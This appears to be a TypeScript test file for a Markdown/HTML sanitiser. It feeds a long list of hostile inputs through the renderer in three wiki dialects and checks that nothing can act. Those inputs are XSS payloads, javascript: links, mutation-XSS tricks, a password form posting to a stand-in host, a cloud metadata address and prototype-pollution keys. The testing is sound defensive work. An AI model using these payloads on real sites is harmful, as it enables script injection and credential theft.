/** Markdown and HTML that attacks its readers: it renders, and can do nothing. */

import { expect, test } from 'vitest'
import type { GraphConfig } from '../../src/nouns.ts'
import { findForbidden, readParsedTokens, readTokens } from './safe-html.ts'
import { fill, fillBlock, parse } from './support.ts'

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[a](javascript:alert(1))',
  '[a](JaVa\tScRiPt:alert(1))',
  '[a](&#x6A;avascript&colon;alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[a]: javascript:alert(1)\n\n[a]',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><animate href=#x attributeName=href values=javascript:alert(1)></svg><a id=x>y</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//evil.test/>',
  "<style>@import '//evil.test/x'; body{display:none}</style>",
  '<p style="position:fixed;inset:0;background:url(//evil.test)">x</p>',
  '<form action=//evil.test><input name=password><button>Log in</button></form>',
  '<a id=location href=x>y</a><img name=getElementById>',
  '# constructor\n# __proto__\n# location',
  '```js" onmouseover="alert(1)\nx\n```',
  '```math"><script>\nx\n```',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
  '<a href="\\\\evil.test">x</a>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '|a|\n|-|\n|<img src=x onerror=alert(1)>|',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '[[javascript:alert(1)|x]]',
  '![[<img src=x onerror=alert(1)>]]',
  '#tag"><script>alert(1)</script>',
  '> [!note"><script>alert(1)</script>]\n> x',
  '---\ntitle: "</script><script>alert(1)</script>"\n---\n\nx',
  '$\\href{javascript:alert(1)}{x}$',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]; click A "javascript:alert(1)"\n```',
  '<img src="http://169.254.169.254/">',
  // Addresses that look like one thing and are another.
  '<a href="//evil.test">x</a>',
  '<a href="https:javascript:alert(1)">x</a>',
  '<a href="https:\\\\evil.test">x</a>',
  '<a href="http:///evil.test">x</a>',
  '<a href="page.md">x</a>',
  '<a href="vbscript:x">x</a>',
  '<img src="//evil.test/x.png" alt="<b>">',
  '<video src="data:video/mp4;base64,AAAA" autoplay onplay=alert(1)></video>',
  '<video><source src="javascript:alert(1)" onerror=alert(1)></video>',
  '<picture><source srcset="javascript:alert(1)"><img src="x"></picture>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<area href="javascript:alert(1)"><map name=x></map>',
  '<object data="x.swf"><p>x</p></object><embed src=x>',
  '<link rel=stylesheet href=//evil.test>',
  // Ids and names that shadow globals, and labels that point at them.
  '<a id=x>1</a><a id=x>2</a><a name=x>3</a>',
  '<h2 id="h-intro">x</h2>\n\n# Intro',
  '<p id="b-0">x</p>',
  '<p aria-labelledby="a b" aria-describedby="c" id="d e">x</p>',
  // Marks of ours, forged.
  '\uFDD0p0\uFDD1 \uFDD0[0\uFDD1 \uFDD0{0\uFDD1 \uFDD2 \uFFFE \uFFFF',
  '&#xFDD0;p0&#xFDD1; &#64976;[0&#64977;',
  '<p title="&#xFDD0;p0&#xFDD1;" lang="\uFDD0(0\uFDD1">&#xFDD0;(0&#xFDD1;</p>',
  '<div \uFDD2=0 \uFDD0p0\uFDD1 data-\uFDD0p0\uFDD1>x</div>',
  '```\uFDD0p0\uFDD1\n\uFDD0[0\uFDD1\n```',
  '[a](https://e.org/\uFDD0[0\uFDD1 "\uFDD0[0\uFDD1") ![\uFDD0[0\uFDD1](https://e.org/x.png)',
  '[[a|\uFDD0[0\uFDD1]] #\uFDD0a0\uFDD1 `\uFDD0[0\uFDD1`',
  '[^\uFDD0]\n\n[^\uFDD0]: x',
  // HTML that a parser puts elsewhere than where it stands.
  '<table><tr><td>a</td></tr>x<b>y',
  '<table><b><tr><td><a href="https://e.org">x</table>[y](https://e.org)',
  '<a href="https://e.org">x\n\n[y](https://e.org)\n\n[[z]]',
  '[a <a href="https://e.org">b</a> [[c]] ![[d]]](https://e.org)',
  '<p><button><p>x</p></button></p>',
  '<h1><x-y><h2>x</h2></x-y></h1>',
  '<b><p>x</b>y</p>',
  '</p></div></li></ul></section>x',
  '<select><option><p>x\n\ny',
  '<textarea>\n\nx\n\n# y',
  '<plaintext>x\n\ny',
  '<xmp><p>x\n\ny',
  '<title><b>x\n\ny',
  '<frameset><frame src=x>\n\ny',
  '<html><body onload=alert(1)><head><title>x',
  '<div>\n\n- a\n\n</div>\n\n- b',
  '<ul>\n\n- a\n\n<li>\n\nb',
  '<details>\n\n<b>\n\n</details>\n\n</b>',
  '<div><span>\n\na\n\n</span></div>',
  '<div>\n\n</section>\n\n</div></div>\n\nx',
  '<pre>\n\n\nx</pre>',
  '<td>x</td><tr><col><caption>y',
  '<li>x<li>y',
  '<dd>x<dt>y',
  '<ruby>x<rt>y<rp>z',
  '<svg><p>x</p><style><a title="</style><img src=x onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><p>x',
  '<isindex><marquee onstart=alert(1)><p>x<p>y',
  '&lt;script&gt; &#0; &#xD800; &#13; \r x',
  '<a title="`" lang="\'">`\'"</a>',
  '<p dir=rtl>x</p>\n\n<h2 dir=rtl title="y">x</h2>',
  '<input type=checkbox><input type=text autofocus onfocus=alert(1)>',
]

/** Ways in which the same text stands on a page. */
const PLACES: readonly (readonly [string, (text: string) => string])[] = [
  ['by itself', (text) => text],
  ['between others', (text) => `# One\n\nbefore [[a]]\n\n${text}\n\nafter ((b))\n\n- c`],
  ['in an item', (text) => `- one\n- ${text.replaceAll('\n', '\n  ')}\n- two\n  - three`],
  ['in a quote', (text) => `> ${text.replaceAll('\n', '\n> ')}\n\nafter`],
  ['in a sentence', (text) => `one ${text} two **[[x]] ${text}** three\n\nnext`],
]

const DIALECTS: readonly GraphConfig['dialect'][] = ['plain', 'obsidian', 'logseq']

const PAGES = HOSTILE.flatMap((text) =>
  PLACES.map(([place, put]) => ({ name: `${JSON.stringify(text)} ${place}`, text: put(text) })),
)

test.each(PAGES)('nothing in it can act: $name', ({ text }) => {
  for (const dialect of DIALECTS) {
    const page = parse(text, dialect)
    expect(page.problems.filter(({ code }) => code === 'page-failed')).toEqual([])
    expect(findForbidden(fill(page))).toEqual([])
    for (const { html } of page.blocks) expect(findForbidden(fillBlock(html))).toEqual([])
  }
})

test.each(PAGES)('a browser has nothing to mend in it: $name', ({ text }) => {
  for (const dialect of DIALECTS) {
    const page = parse(text, dialect)
    for (const html of [fill(page), ...page.blocks.map((block) => fillBlock(block.html))])
      expect(readParsedTokens(html)).toEqual(readTokens(html))
  }
})

test.each(PAGES)('every block stands once in its page: $name', ({ text }) => {
  for (const dialect of DIALECTS) {
    const page = parse(text, dialect)
    const html = fill(page)
    for (const n of page.blocks.keys()) expect(html.split(`id="b-${n}"`)).toHaveLength(2)
  }
})

test('keys that every object has are ordinary words', () => {
  parse(
    '---\n__proto__: {polluted: 1}\nconstructor: {prototype: {polluted: 1}}\n---\n\n# __proto__\n\n[[constructor]] #__proto__ [toString]\n',
  )
  expect(({} as Record<string, unknown>).polluted).toBeUndefined()
})

test.each([
  ['<script>x</script>', ['<script>']],
  ['<p onclick="x">', ['attribute onclick of <p>']],
  ['<a href="javascript:x">', ['href="javascript:x" of <a>']],
  ['<a href="page">', ['href="page" of <a>']],
  ['<p id="location">', ['id="location" of <p>']],
  ['<p id="b-1"></p><p id="b-1">', ['id b-1 twice']],
  ['<svg>', ['<svg>', 'namespace of <svg>']],
  ['<p style="x">', ['attribute style of <p>']],
  ['<input type="checkbox">', ['<input> that can be used']],
  ['<!-- x -->', ['node #comment']],
])('the check itself finds what must not be there: %s', (html, found) =>
  expect(findForbidden(html)).toEqual(found),
)

test.each(['<p><p>x</p></p>', '<b>x', '<table>x</table>', '<a href="#h-a"><a>x</a></a>'])(
  'the check itself finds what a browser would mend: %s',
  (html) => expect(readParsedTokens(html)).not.toEqual(readTokens(html)),
)
